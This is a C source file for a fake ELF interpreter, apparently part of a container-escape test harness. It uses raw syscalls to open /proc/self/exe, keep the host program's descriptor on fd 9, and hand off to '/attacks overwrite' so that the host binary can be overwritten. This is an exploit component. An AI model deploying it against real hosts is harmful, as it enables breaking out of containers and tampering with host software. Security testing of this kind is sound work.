/* A false dynamic loader: the kernel starts it in place of the real one, with the host's program as its
   executable. It keeps a descriptor of that program and becomes /attacks. No C library: the program that
   it is started for is not its own. */

#define AT_FDCWD (-100)

static long call(long number, long a, long b, long c, long d) {
#if defined(__x86_64__)
    register long r10 __asm__("r10") = d;
    long result;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10)
                     : "rcx", "r11", "memory");
    return result;
#elif defined(__aarch64__)
    register long x8 __asm__("x8") = number;
    register long x0 __asm__("x0") = a;
    register long x1 __asm__("x1") = b;
    register long x2 __asm__("x2") = c;
    register long x3 __asm__("x3") = d;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    return x0;
#endif
}

#if defined(__x86_64__)
enum { OPENAT = 257, DUP3 = 292, EXECVE = 59, EXIT = 60 };
#else
enum { OPENAT = 56, DUP3 = 24, EXECVE = 221, EXIT = 93 };
#endif

void _start(void) {
    long fd = call(OPENAT, AT_FDCWD, (long)"/proc/self/exe", 0, 0);
    call(DUP3, fd, 9, 0, 0);
    const char *words[] = {"/attacks", "overwrite", 0};
    const char *variables[] = {0};
    call(EXECVE, (long)words[0], (long)words, (long)variables, 0);
    call(EXIT, 99, 0, 0, 0);
}
